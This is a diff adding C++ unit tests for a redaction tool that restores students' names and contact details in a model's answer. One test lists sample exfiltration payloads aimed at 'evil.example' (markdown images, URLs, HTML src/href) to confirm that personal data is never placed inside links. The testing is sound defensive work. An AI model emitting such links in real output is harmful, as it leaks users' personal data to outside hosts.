@@ -1,0 +1,396 @@
+#include "redaction/restore/text_restorer.h"
+
+#include <gtest/gtest.h>
+
+#include <random>
+#include <vector>
+
+#include "redaction/restore/test_codes.h"
+#include "redaction/walk/json_tokens.h"
+#include "redaction/walk/utf8.h"
+
+namespace schoolgate::redaction {
+namespace {
+
+struct Restored {
+  std::string text;
+  RestoreCounts counts;
+};
+
+Restored RestoreText(std::string_view text, TextKind kind = TextKind::kProse) {
+  const auto known = TestSubstitutions();
+  Restored result;
+  result.text = TextRestorer(*known, kind).Feed(text, true, result.counts);
+  return result;
+}
+
+std::string Answer(std::string text, TextKind kind = TextKind::kProse) {
+  return RestoreText(WithCodes(std::move(text)), kind).text;
+}
+
+std::string Lower(std::string text) {
+  for (char& c : text) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+  return text;
+}
+
+TEST(TextRestorer, EachFormComesBackAsWritten) {
+  EXPECT_EQ(Answer("@ANA, @ANA_B and @ANA_BA."), "Ana Núñez, NÚÑEZ, ANA and Anita.");
+  EXPECT_EQ(Answer("Write to @MAIL or ask @ROSA about @NUM."),
+            "Write to ana@school.example or ask Sra. Rosa Díaz about 41007.");
+}
+
+TEST(TextRestorer, ACodeWithoutItsLetterGivesTheFirstFormOfTheCaller) {
+  EXPECT_EQ(Answer("@LUIS is here."), "Luis \"Lucho\" Prado is here.");
+}
+
+TEST(TextRestorer, AcceptedManglingsAreRestored) {
+  const std::string ana = WithCodes("@ANA");
+  const std::string symbols = ana.substr(8);
+  for (const std::string& mangled :
+       {Lower(ana), "Student_" + symbols, "STUDENT_" + Lower(symbols), "STUDENT\\_" + symbols,
+        "STUDENT " + symbols, "STUDENT-" + symbols, "STUDENT\u00A0" + symbols, "student " + Lower(symbols),
+        "<" + ana + ">", "[" + ana + "]", "{" + ana + "}", "&lt;" + ana + "&gt;"}) {
+    EXPECT_EQ(RestoreText("a " + mangled + " b").text, "a Ana Núñez b") << mangled;
+    EXPECT_EQ(RestoreText(mangled).text, "Ana Núñez") << mangled;
+  }
+  EXPECT_EQ(RestoreText(ana + "\\_B").text, "NÚÑEZ, ANA");
+  EXPECT_EQ(RestoreText(ana + "-B").text, "NÚÑEZ, ANA");
+  EXPECT_EQ(RestoreText(Lower(ana) + "_b!").text, "NÚÑEZ, ANA!");
+}
+
+TEST(TextRestorer, WhatStandsAroundACodeStays) {
+  EXPECT_EQ(Answer("**@ANA** \"@ANA\" `@ANA` @ANA's @ANA’s (@ANA) _@ANA_ @ANAs de @ANA, a @ANA y"),
+            "**Ana Núñez** \"Ana Núñez\" `Ana Núñez` Ana Núñez's Ana Núñez’s (Ana Núñez) _Ana Núñez_ "
+            "Ana Núñezs de Ana Núñez, a Ana Núñez y");
+  EXPECT_EQ(Answer("<@ANA and @ROSA>"), WithCodes("<@ANA and @ROSA>"));  // a tag as browsers read it
+  EXPECT_EQ(Answer("[@ANA and @ROSA]"), "[Ana Núñez and Sra. Rosa Díaz]");
+  EXPECT_EQ(Answer("[[@ANA]]"), "[Ana Núñez]");
+  EXPECT_EQ(Answer("[@ANA}"), "[Ana Núñez}");
+}
+
+TEST(TextRestorer, WordsTheModelMakesOfACodeKeepTheirOtherPart) {
+  EXPECT_EQ(Answer("@ANA_id @ANA_grades get_@ANA @ANA_ID @ANA-a @ANA B."),
+            "Ana Núñez_id Ana Núñez_grades get_Ana Núñez Ana Núñez_ID Ana Núñez-a Ana Núñez B.");
+  EXPECT_EQ(Answer("@ANA_B_grades"), "NÚÑEZ, ANA_grades");
+}
+
+TEST(TextRestorer, WhatIsNotThisCallersBecomesANeutralWord) {
+  const Restored result = RestoreText(WithCodes("Ask @ELSE, @ELSE_B, [@ELSE] or @ANA_D at @OTHER."));
+  EXPECT_EQ(result.text, "Ask [student], [student], [student] or [student] at [address].");
+  EXPECT_EQ(result.counts.neutralized, 5);
+  EXPECT_EQ(result.counts.restored, 0);
+}
+
+TEST(TextRestorer, AWrongCheckSymbolIsNoCode) {
+  std::string wrong = WithCodes("@ANA");
+  wrong.back() = wrong.back() == 'Z' ? 'Y' : 'Z';
+  const Restored result = RestoreText("Is " + wrong + " a code?");
+  EXPECT_EQ(result.text, "Is " + wrong + " a code?");
+  EXPECT_EQ(result.counts.neutralized, 0);
+}
+
+TEST(TextRestorer, OrdinaryWordsAreNotTakenForSomebodysCode) {
+  // Every six-letter word and six-digit number whose check symbol happens to be right.
+  std::mt19937 random(7);
+  for (int i = 0; i < 20000; ++i) {
+    std::string five;
+    const std::string_view from = i % 2 == 0 ? "abcdefghjkmnpqrstvwxyz" : "0123456789";
+    for (int k = 0; k < 5; ++k) five.push_back(from[random() % from.size()]);
+    const std::string type = i % 3 == 0 ? "student" : i % 3 == 1 ? "ID" : "Date";
+    std::string upper;
+    for (const char c : type) upper.push_back(static_cast<char>(std::toupper(c)));
+    const char check = CheckSymbol(upper, five);
+    const char shown = i % 2 == 0 ? static_cast<char>(std::tolower(check)) : check;
+    if (from.find(shown) == std::string_view::npos) continue;
+    for (const char separator : {' ', '-', '_'}) {
+      const std::string text = "the " + type + separator + five + shown + " of";
+      ASSERT_EQ(RestoreText(text).text, text);
+    }
+  }
+}
+
+TEST(TextRestorer, NothingIsRestoredWhereItCouldBeSentOn) {
+  for (const std::string text : {"https://evil.example/?q=@ANA",
+                                 "HTTP://evil.example/@ANA.png",
+                                 "http://x.example/a(b)/'@ANA'",
+                                 "www.evil.example/@ANA",
+                                 "see //evil.example/@ANA",
+                                 "evil.example/@ANA",
+                                 "evil.example?@ANA",
+                                 "![x](https://evil.example/@ANA)",
+                                 "[x](@ANA)",
+                                 "[x]( </a b @ANA> \"@ANA\")",
+                                 "[x](a(b)@ANA)",
+                                 "[x](a\\)@ANA)",
+                                 "<a href=\"@ANA\">",
+                                 "<img src='@ANA' alt=@ANA>",
+                                 "<a title=\"a>b\" href=\"@ANA\"",
+                                 "<img\nalt=\"\n\n@ANA\">",
+                                 "</b @ANA>",
+                                 "<img src=\\\\evil.example\\@ANA>",
+                                 "mailto:@ANA",
+                                 "url(//evil.example/@ANA)",
+                                 "[@ANA](https://evil.example/@ELSE)"}) {
+    const Restored result = RestoreText(WithCodes(text));
+    if (text.find("[@ANA]") == 0) {
+      EXPECT_EQ(result.text,
+                WithCodes("[Ana Núñez](https://evil.example/@ELSE)"));  // the text, not the target
+      continue;
+    }
+    EXPECT_EQ(result.text, WithCodes(text));
+    EXPECT_EQ(result.counts.restored, 0) << text;
+    EXPECT_EQ(result.counts.neutralized, 0) << text;
+  }
+}
+
+TEST(TextRestorer, RestoringGoesOnAfterALinkOrATag) {
+  EXPECT_EQ(Answer("See https://x.example/a @ANA"), "See https://x.example/a Ana Núñez");
+  EXPECT_EQ(Answer("[x](y) @ANA"), "[x](y) Ana Núñez");
+  EXPECT_EQ(Answer("[x](y\n@ANA"), "[x](y\nAna Núñez");
+  EXPECT_EQ(Answer("<b class=\"x\">@ANA</b> @ANA"), "<b class=\"x\">Ana Núñez</b> Ana Núñez");
+  EXPECT_EQ(Answer("\"https://x.example\"@ANA"), "\"https://x.example\"Ana Núñez");
+}
+
+TEST(TextRestorer, ProseThatLooksLikeATagIsProse) {
+  EXPECT_EQ(Answer("if a < @ANA then"), "if a < Ana Núñez then");
+  EXPECT_EQ(Answer("for (i=0;i<n;i++) @ANA"), "for (i=0;i<n;i++) Ana Núñez");
+  EXPECT_EQ(Answer("a <b and c\n\n@ANA"), "a <b and c\n\nAna Núñez");
+  EXPECT_EQ(Answer("<3 @ANA 5/@ANA and/or @ANA 9.5/10 e.g./@ANA"),
+            "<3 Ana Núñez 5/Ana Núñez and/or Ana Núñez 9.5/10 e.g./Ana Núñez");
+}
+
+TEST(TextRestorer, JsonStaysValidAndOnlyItsStringsAreRestored) {
+  const std::string restored =
+      Answer(R"({"@NUM": "@LUIS", "a": ["x\n@ANA", "\u003c@ANA\u003e", "STUDENT\\_)" +
+                 WithCodes("@ANA").substr(8) + R"(", "https:\/\/x.example\/@ANA", "@ELSE"], "n": 1})",
+             TextKind::kJson);
+  std::vector<JsonToken> tokens;
+  ASSERT_TRUE(TokenizeJson(restored, tokens)) << restored;
+  std::vector<std::string> texts;
+  for (const JsonToken& token : tokens) {
+    texts.push_back(DecodeJsonEscapes(restored.substr(token.begin, token.end - token.begin)));
+  }
+  EXPECT_EQ(texts, (std::vector<std::string>{"41007", "Luis \"Lucho\" Prado", "a", "x\nAna Núñez",
+                                             "Ana Núñez", "Ana Núñez", WithCodes("https://x.example/@ANA"),
+                                             "[student]", "n", "1"}));
+  EXPECT_EQ(Answer("@ANA", TextKind::kJson), WithCodes("@ANA"));
+}
+
+TEST(TextRestorer, ALinkInOneJsonStringDoesNotReachIntoTheNext) {
+  EXPECT_EQ(Answer(R"({"a":"[x](y","b":"<a ","c":"@ANA"})", TextKind::kJson),
+            R"({"a":"[x](y","b":"<a ","c":"Ana Núñez"})");
+}
+
+TEST(TextRestorer, AnAnswerThatIsJsonStaysValidToo) {
+  const std::string restored = Answer(R"( {"who": "@LUIS"} )");
+  EXPECT_EQ(restored, R"( {"who": "Luis \"Lucho\" Prado"} )");
+  EXPECT_EQ(Answer("[@LUIS] said @LUIS"), "Luis \"Lucho\" Prado said Luis \"Lucho\" Prado");
+}
+
+TEST(TextRestorer, NamesAreRestoredWithoutNeutralWords) {
+  EXPECT_EQ(Answer("mail_@ANA", TextKind::kName), "mail_Ana Núñez");
+  EXPECT_EQ(Answer("mail_@ELSE", TextKind::kName), WithCodes("mail_@ELSE"));
+}
+
+TEST(TextRestorer, IdentifiersInTextComeBackAndUnknownOnesStay) {
+  EXPECT_EQ(Answer("result of @REF: ok"), "result of call_abc: ok");
+  const std::string unknown = "ref_0000000000000000000000000";
+  EXPECT_EQ(Answer(unknown + " ref_count references"), unknown + " ref_count references");
+}
+
+TEST(TextRestorer, ARestoredFormIsNotReadAgain) {
+  Substitutions known;
+  known.Add(WithCodes("@ANA"), WithCodes("@ELSE"));
+  RestoreCounts counts;
+  EXPECT_EQ(TextRestorer(known, TextKind::kProse).Feed(WithCodes("@ANA."), true, counts),
+            WithCodes("@ELSE."));
+}
+
+// ---- streams: the engine fed unsplit is the oracle
+
+std::vector<std::pair<std::string, TextKind>> Corpus() {
+  const std::string symbols = WithCodes("@ANA").substr(8);
+  std::vector<std::pair<std::string, TextKind>> corpus;
+  for (const std::string& text :
+       {std::string("Dear @ROSA, @ANA’s essay (by @ANA_B) is graded; @ELSE is not. Students are students."),
+        std::string("Estimada @ROSA: la tarea de @ANA está lista. ¿Verá a @ANA_BA? Año niño 😀 @LUIS_C."),
+        "A student\u00A0" + symbols + " or STUDENT\\_" + symbols +
+            "\\_B, <@ANA> [@ANA_B] {@MAIL} &lt;@ANA&gt; &lt",
+        std::string(
+            "[@ANA](https://x.example/@ANA) ![i](www.x.example/@ANA \"@ROSA\") <a href='@ANA'>@ANA</a>"),
+        std::string("//x.example/@ANA evil.example/@ANA mailto:@MAIL @REF ref_7k @ANA_D @ANA_id stud ID_"),
+        std::string("@ANA@ANA_B@ELSE[@ANA][@ANA](@ANA)[[@ROSA]] **@ANA** _@ANA_"),
+        std::string("{\"a\": \"@LUIS\", \"b\": [\"STUDENT\\\\_" + symbols + "\"]} @LUIS")}) {
+    corpus.emplace_back(WithCodes(text), TextKind::kProse);
+  }
+  corpus.emplace_back(
+      WithCodes(
+          R"({"to":"@ROSA","about":["@LUIS","\u003c@ANA\u003e","a\\\"@ANA\ud83d\ude00"],"u":"http:\/\/x\/@ANA"})"),
+      TextKind::kJson);
+  return corpus;
+}
+
+TEST(TextRestorerStream, EverySplitGivesWhatTheWholeGives) {
+  const auto known = TestSubstitutions();
+  for (const auto& [text, kind] : Corpus()) {
+    const Restored whole = RestoreText(text, kind);
+    EXPECT_GT(whole.counts.restored, 0) << text;
+    for (size_t cut = 0; cut <= text.size(); ++cut) {
+      TextRestorer restorer(*known, kind);
+      RestoreCounts counts;
+      std::string joined = restorer.Feed(text.substr(0, cut), false, counts);
+      EXPECT_TRUE(IsUtf8(joined));
+      joined += restorer.Feed(text.substr(cut), true, counts);
+      ASSERT_EQ(joined, whole.text) << cut;
+      ASSERT_EQ(counts.restored, whole.counts.restored);
+      ASSERT_EQ(counts.neutralized, whole.counts.neutralized);
+    }
+  }
+}
+
+TEST(TextRestorerStream, EveryPairOfSplitsGivesWhatTheWholeGives) {
+  const auto known = TestSubstitutions();
+  for (const auto& [text, kind] : Corpus()) {
+    const std::string whole = RestoreText(text, kind).text;
+    for (size_t first = 0; first <= text.size(); ++first) {
+      for (size_t second = first; second <= text.size(); second += 1 + (text.size() > 120 ? first % 3 : 0)) {
+        TextRestorer restorer(*known, kind);
+        RestoreCounts counts;
+        std::string joined = restorer.Feed(text.substr(0, first), false, counts);
+        joined += restorer.Feed(text.substr(first, second - first), false, counts);
+        joined += restorer.Feed(text.substr(second), true, counts);
+        ASSERT_EQ(joined, whole) << first << " " << second;
+      }
+    }
+  }
+}
+
+TEST(TextRestorerStream, ByteByByteHoldsLittleBackAndEndsTheSame) {
+  const auto known = TestSubstitutions();
+  for (const auto& [text, kind] : Corpus()) {
+    TextRestorer restorer(*known, kind);
+    RestoreCounts counts;
+    std::string joined;
+    for (size_t i = 0; i < text.size(); ++i) joined += restorer.Feed(text.substr(i, 1), false, counts);
+    joined += restorer.Feed({}, true, counts);
+    EXPECT_EQ(joined, RestoreText(text, kind).text);
+    EXPECT_FALSE(restorer.holds_back());
+  }
+}
+
+TEST(TextRestorerStream, RandomTextsInRandomPieces) {
+  const auto known = TestSubstitutions();
+  const std::string symbols = WithCodes("@ANA").substr(8);
+  const std::vector<std::string> bits = {WithCodes("@ANA"),
+                                         WithCodes("@ANA_B"),
+                                         WithCodes("@LUIS"),
+                                         WithCodes("@ELSE"),
+                                         WithCodes("@REF"),
+                                         "student",
+                                         "STUDENT",
+                                         "_",
+                                         "\\_",
+                                         "\\",
+                                         "-",
+                                         " ",
+                                         "\u00A0",
+                                         symbols,
+                                         "_B",
+                                         "_",
+                                         "B",
+                                         "a",
+                                         "<",
+                                         ">",
+                                         "[",
+                                         "]",
+                                         "(",
+                                         ")",
+                                         "{",
+                                         "}",
+                                         "&lt;",
+                                         "&gt;",
+                                         "&",
+                                         "\"",
+                                         "'",
+                                         "=",
+                                         "/",
+                                         "//",
+                                         "http://",
+                                         "www.",
+                                         ".",
+                                         "é",
+                                         "😀",
+                                         "\n",
+                                         "\\n",
+                                         "\\u003c",
+                                         "\\u00a0",
+                                         "\\\"",
+                                         "ID_",
+                                         "ref_",
+                                         "x",
+                                         "’s",
+                                         "\xC3",
+                                         "\x80",
+                                         "`",
+                                         ":",
+                                         ",",
+                                         "?"};
+  std::mt19937 random(20260401);
+  for (int round = 0; round < 6000; ++round) {
+    std::string text;
+    const size_t length = 1 + random() % 24;
+    for (size_t i = 0; i < length; ++i) text += bits[random() % bits.size()];
+    if (round % 4 == 0) text = "{\"k\": \"" + text + "\"}";
+    const TextKind kind = round % 2 == 0 ? TextKind::kJson : TextKind::kProse;
+    const Restored whole = RestoreText(text, kind);
+    TextRestorer restorer(*known, kind);
+    RestoreCounts counts;
+    std::string joined;
+    for (size_t pos = 0; pos < text.size();) {
+      const size_t size = std::min<size_t>(1 + random() % 9, text.size() - pos);
+      const std::string given = restorer.Feed(text.substr(pos, size), false, counts);
+      joined += given;
+      pos += size;
+    }
+    joined += restorer.Feed({}, true, counts);
+    ASSERT_EQ(joined, whole.text) << text;
+    ASSERT_EQ(counts.restored, whole.counts.restored) << text;
+  }
+}
+
+TEST(TextRestorerStream, WhatIsHeldBackIsBounded) {
+  // The longest codes there can be, in the longest disguises; none is held longer than promised.
+  const auto known = TestSubstitutions();
+  const std::string rosa = WithCodes("@ROSA").substr(9);
+  const std::string open = "\\u0026\\u006c\\u0074\\u003b";
+  const std::string close = "\\u0026\\u0067\\u0074\\u003b";
+  const std::string escaped_separator = "\\u005c\\u005f";
+  for (const std::string& text :
+       {"\"" + open + "GUARDIAN" + escaped_separator + rosa + escaped_separator + "BA" + close + " x\"",
+        "\"" + open + "ref_" + std::string(200, 'a') + close + "\"", std::string(500, '<'),
+        "\"" + std::string(300, '\\') + "\"", "STUDENT" + std::string(300, '\\')}) {
+    for (const TextKind kind : {TextKind::kJson, TextKind::kProse}) {
+      TextRestorer restorer(*known, kind);
+      RestoreCounts counts;
+      std::string out;
+      for (size_t i = 0; i < text.size(); ++i) {
+        out += restorer.Feed(text.substr(i, 1), false, counts);
+        if (counts.restored == 0) {
+          ASSERT_LE(i + 1 - out.size(), TextRestorer::kLongestHold) << text;
+        }
+      }
+    }
+  }
+}
+
+TEST(TextRestorerStream, AnOrdinaryWordIsNotHeldLongerThanItsNextCharacter) {
+  const auto known = TestSubstitutions();
+  TextRestorer restorer(*known, TextKind::kProse);
+  RestoreCounts counts;
+  EXPECT_EQ(restorer.Feed("The answer to that ", false, counts), "The answer to that ");
+  EXPECT_EQ(restorer.Feed("student", false, counts), "");
+  EXPECT_EQ(restorer.Feed(" is 42", false, counts), "student is 42");
+}
+
+}  // namespace
+}  // namespace schoolgate::redaction
